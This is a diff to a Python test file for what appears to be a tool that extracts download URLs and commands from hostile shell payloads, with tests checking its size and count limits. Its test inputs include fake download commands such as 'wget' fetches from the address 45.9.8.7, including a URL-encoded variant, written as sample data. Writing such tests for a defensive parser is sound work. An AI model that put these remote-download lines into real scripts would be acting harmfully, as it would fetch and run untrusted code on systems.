@@ -162,8 +162,22 @@ def test_hostile_payloads_cost_their_limits(payload: bytes) -> None:
     found = extract(payload, HOST)
     assert len(found.downloads) <= DOWNLOADS_MAX
     assert len(found.layers) <= TEXTS_MAX
-    assert sum(map(len, found.layers)) <= extract_module.DECODED_BYTES_MAX
+    assert sum(map(len, found.layers)) <= extract_module.LAYERS_SHARE * extract_module.PAYLOAD_BYTES_MAX
     assert time.process_time() - began_s < 60  # not a figure: without limits some of these never end
+
+
+def test_limits_are_where_they_say() -> None:
+    command = b"\nh=45.9.8.7; wget $h/x\n"
+    for limit in (extract_module.PAYLOAD_BYTES_MAX, extract_module.SHELL_BYTES_MAX // 2):
+        padding = b"#!/bin/sh\n" + (b"# " + b"r" * 997 + b"\n") * (limit // 1000 + 1)
+        assert fetched(padding[: limit - len(command)] + command) == ([f"{H}/x"] if limit < 200_000 else [])
+        assert fetched(padding[:limit] + command) == []
+    whole = b"%77get 45.9.8.7/x # ".ljust(extract_module.PAYLOAD_BYTES_MAX, b"%")
+    assert fetched(whole) == [f"{H}/x"]  # the largest payload still has its wrapping undone
+    many = b"\n".join(b"x%d=1; wget 45.9.8.7/%d" % (n, n) for n in range(DOWNLOADS_MAX + 1))
+    assert len(fetched(many)) == DOWNLOADS_MAX
+    commands = extract(b"\n".join(b"'wget 45.9.8.7/%d'" % n for n in range(200)), HOST).commands
+    assert 0 < len(commands) <= extract_module.COMMANDS_MAX
 
 
 def test_pieces_and_urls_of_one_text_are_limited() -> None:
